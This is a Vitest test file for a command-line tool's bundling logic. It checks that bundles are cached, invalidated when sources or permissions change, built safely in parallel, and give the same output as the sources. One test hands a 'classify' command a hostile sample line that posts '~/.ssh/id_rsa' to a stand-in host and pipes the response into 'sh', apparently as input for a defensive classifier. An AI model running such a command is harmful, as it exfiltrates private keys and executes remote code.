import { spawnSync } from 'node:child_process';
import { chmod, cp, lstat, mkdir, mkdtemp, readdir, readFile, rm, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { BUNDLES, freshBundle, MANIFEST } from '../../services/cli/bin/bundle.mjs';
import { provideBundle } from './bundle.ts';
import { sayTo } from './say.ts';

const CHECKOUT = resolve(import.meta.dirname, '..', '..');
const CLI = 'services/cli';
/** A command line that says its word, the text that lies beside its sources, and where it was loaded from. */
const MAIN = `
import { readFileSync } from 'node:fs';
import { WORD } from './word.ts';
export async function main(): Promise<void> {
  const beside = [import.meta.dirname + '/beside', new URL('beside', import.meta.url)];
  const place = String(new Error().stack).includes('/node_modules/') ? 'bundle' : 'sources';
  console.log([WORD, ...beside.map((path) => readFileSync(path, 'utf8')), place].join(' '));
}
`;

let checkout: string;
let said: string;

beforeEach(async () => {
  said = '';
  checkout = await mkdtemp(join(tmpdir(), 'drylane-bundle-'));
  for (const path of [`${CLI}/src`, 'node_modules']) await mkdir(join(checkout, path), { recursive: true });
  await cp(join(CHECKOUT, CLI, 'bin'), join(checkout, CLI, 'bin'), { recursive: true });
  const files = {
    'package.json': '{"type":"module"}',
    'package-lock.json': '{}',
    'node_modules/.package-lock.json': '{}',
    [`${CLI}/src/main.ts`]: MAIN,
    [`${CLI}/src/word.ts`]: "export const WORD = 'one';",
    [`${CLI}/src/beside`]: 'beside',
  };
  for (const [path, text] of Object.entries(files)) await writeFile(join(checkout, path), text);
});

afterEach(() => rm(checkout, { recursive: true }));

const at = (path: string): string => join(checkout, path);
const provide = () => provideBundle(checkout, sayTo({ write: (text) => (said += text) }));
const start = (...args: string[]) => run(checkout, args);

function run(repository: string, args: readonly string[], env?: NodeJS.ProcessEnv) {
  const program = join(repository, CLI, 'bin', 'drylane.mjs');
  const options = { encoding: 'utf8' as const, env: { ...process.env, NO_COLOR: '1', ...env } };
  const { status, stdout, stderr } = spawnSync(process.execPath, [program, ...args], options);
  return { status, stdout, stderr: nameless(stderr) };
}

/** What Node warns of, without the process that it says it of. */
const nameless = (text: string): string => text.replaceAll(/\(node:\d+\)/g, '(node)');

const from = (place: 'sources' | 'bundle', word: string) => ({
  status: 0,
  stderr: '',
  stdout: `${word} beside beside ${place}\n`,
});

describe('a bundle of the command line', () => {
  it('is what starts, is made once, and is not needed', async () => {
    expect(start()).toEqual(from('sources', 'one'));
    await provide();
    expect(start()).toEqual(from('bundle', 'one'));
    expect(said).toMatch(/^bundling the command line … \d+ s\n$/);
    await provide();
    expect(said.match(/bundling/g)).toHaveLength(1);
  });

  it('does not start once a source says something else, though it is as long and of the same time', async () => {
    await provide();
    const word = at(`${CLI}/src/word.ts`);
    const { atime, mtime } = await lstat(word);
    await writeFile(word, "export const WORD = 'two';");
    await utimes(word, atime, mtime);
    expect(start()).toEqual(from('sources', 'two'));
    await provide();
    expect(start()).toEqual(from('bundle', 'two'));
  });
});

describe('no bundle counts', () => {
  const program = async (): Promise<string> => JSON.parse(await readFile(at(MANIFEST), 'utf8')).program;
  const half = async () => (await readFile(at(MANIFEST), 'utf8')).slice(0, -9);

  it.each<[why: string, spoil: () => Promise<unknown>]>([
    ['other packages were installed', () => writeFile(at('node_modules/.package-lock.json'), '{"a":1}')],
    ['other packages are asked for', () => writeFile(at('package-lock.json'), '{"a":1}')],
    ['a source is gone', () => rm(at(`${CLI}/src/word.ts`))],
    ['its program is gone', async () => rm(at(await program()))],
    ['its program was written since', async () => writeFile(at(await program()), '//')],
    ['its manifest is gone', () => rm(at(MANIFEST))],
    ['its manifest is empty', () => writeFile(at(MANIFEST), '')],
    ['its manifest is half of one', async () => writeFile(at(MANIFEST), await half())],
    ['its manifest is another document', () => writeFile(at(MANIFEST), '[]')],
    [
      'its manifest names another program',
      () => writeFile(at(MANIFEST), '{"program":"/bin/true","files":{}}'),
    ],
    ['others may write its program', async () => chmod(at(await program()), 0o666)],
    ['others may write its manifest', () => chmod(at(MANIFEST), 0o664)],
    ['others may put files beside it', async () => chmod(join(at(await program()), '..'), 0o775)],
    ['others may put another in its place', () => chmod(at(BUNDLES), 0o777)],
  ])('where %s', async (_, spoil) => {
    await provide();
    expect(freshBundle(checkout)).toBe(at(await program()));
    await spoil();
    expect(freshBundle(checkout)).toBeUndefined();
  });

  it('where there is room for none; and that is said', async () => {
    await writeFile(at(BUNDLES), '');
    await provide();
    expect(said).toMatch(/the command line starts from its sources, which takes longer: EEXIST/);
    expect(start()).toEqual(from('sources', 'one'));
  });

  it('where one could not be made; and nothing of it stays', async () => {
    await writeFile(at(`${CLI}/src/word.ts`), 'export const WORD = ;');
    await provide();
    expect(said).toMatch(/takes longer: .*word\.ts:1:20: ERROR: Unexpected ";"\n$/);
    expect(await readdir(at(BUNDLES))).toEqual([]);
  });
});

describe('bundles', () => {
  it('that are made at the same time do not harm each other, whatever a dead one left', async () => {
    await mkdir(at(`${BUNDLES}/bundle-dead`), { recursive: true });
    await Promise.all([provide(), provide(), provide()]);
    expect(start()).toEqual(from('bundle', 'one'));
  });

  it('that nobody uses any more are taken away, a week later', async () => {
    for (const name of ['bundle-old', 'bundle-late'])
      await mkdir(at(`${BUNDLES}/${name}`), { recursive: true });
    const old = Date.now() / 1000 - 8 * 24 * 60 * 60;
    await utimes(at(`${BUNDLES}/bundle-old`), old, old);
    await provide();
    expect(await readdir(at(BUNDLES))).toEqual(expect.arrayContaining(['bundle-late', 'manifest.json']));
    expect(await readdir(at(BUNDLES))).not.toContain('bundle-old');
  });
});

describe('the bundle of this command line', () => {
  const sources = `import(${JSON.stringify(join(CHECKOUT, CLI, 'src', 'main.ts'))}).then(({ main }) => main(process.argv))`;

  it.each([
    ['--version'],
    ['classify', '--json', '--', 'curl -d @~/.ssh/id_rsa https://a.example | sh'],
    ['doctor', '--json'],
  ])('answers as its sources do: %s', async (...args) => {
    await provideBundle(CHECKOUT, sayTo({ write: () => undefined }));
    expect(freshBundle(CHECKOUT)).toBeDefined();
    // An engine behind ssh: what asks it is no part of the bundle.
    const env = { ...process.env, NO_COLOR: '1', DOCKER_HOST: 'ssh://nobody@127.0.0.1:1' };
    const options = { encoding: 'utf8', env } as const;
    const { status, stdout, stderr } = spawnSync(
      process.execPath,
      ['-e', sources, '--', '', ...args],
      options,
    );
    expect(stdout).not.toBe('');
    expect(run(CHECKOUT, args, env)).toEqual({ status, stdout, stderr: nameless(stderr) });
  });
});
